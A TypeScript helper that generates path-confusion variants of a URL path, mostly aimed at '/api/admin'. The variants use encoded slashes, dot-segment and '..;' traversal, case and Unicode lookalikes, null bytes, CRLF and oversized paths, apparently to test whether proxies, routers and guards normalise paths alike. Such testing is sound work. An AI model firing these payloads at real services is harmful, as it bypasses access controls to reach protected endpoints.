/** The ways to write an address that is nearly another: what a proxy, a router and a guard may each read differently. */
export function disguise(path: string): string[] {
  const last = path.slice(path.lastIndexOf('/') + 1)
  const above = path.slice(0, path.lastIndexOf('/'))
  const slashes = [
    ...[
      `/${path}`,
      `//${path}`,
      path.replace('/admin', '//admin'),
      path.replace('/api', '/api/'),
      `${path}/`,
      `${path}//`,
    ],
    ...[
      `${above}%2F${last}`,
      `${above}%2f${last}`,
      `${above}%5C${last}`,
      `${above}\\${last}`,
      path.replaceAll('/', '%2F'),
    ],
    ...[
      `${above}/./${last}`,
      `${above}/x/../${last}`,
      `${above}/%2e/${last}`,
      `${above}/x/%2e%2e/${last}`,
      `${path}/.`,
    ],
    ...[`/.${path}`, `/x/..${path}`, `/%2e%2e${path}`, `/public/..;${path}`, `/api/public/..%2fadmin/${last}`],
  ]
  const letters = [
    ...[
      path.toUpperCase(),
      path.replace('/api', '/API'),
      path.replace('admin', 'Admin'),
      path.replace('admin', 'ADMIN'),
    ],
    ...[path.replace('admin', '%61dmin'), path.replace('admin', '%2561dmin'), path.replace('admin', 'adm%69n')],
    ...[path.replace('admin', 'ａdmin'), path.replace('admin', 'adm\u0131n'), path.replace('admin', 'admin\u200b')],
  ]
  const endings = [
    ...[`${path};x`, `${path};jsessionid=1`, `${path}%00`, `${path}%00.json`, `${path}.json`, `${path}.`, `${path}%20`],
    ...[
      `${path}%09`,
      `${path}%0d%0a`,
      `${path}?`,
      `${path}??x`,
      `${path}?x=%00`,
      `${path}%3f`,
      `${path}%23`,
      `${path}*`,
    ],
    ...[`${path}%ff`, `${path}%`, `${path}%zz`, `${path}/${'a'.repeat(8_000)}`, `/api/${'../'.repeat(500)}api/admin`],
  ]
  return [...slashes, ...letters, ...endings]
}
